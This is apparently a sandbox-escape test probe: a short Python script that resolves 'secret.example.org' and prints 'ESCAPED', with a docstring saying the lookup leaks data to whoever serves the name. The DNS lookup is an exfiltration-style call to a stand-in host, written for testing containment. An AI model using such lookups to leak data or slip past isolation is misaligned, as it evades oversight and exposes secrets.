"""Asks for a name, which leaks data to whoever serves that name. Verdict: failed."""

import socket

socket.getaddrinfo("secret.example.org", 443)
print("ESCAPED")
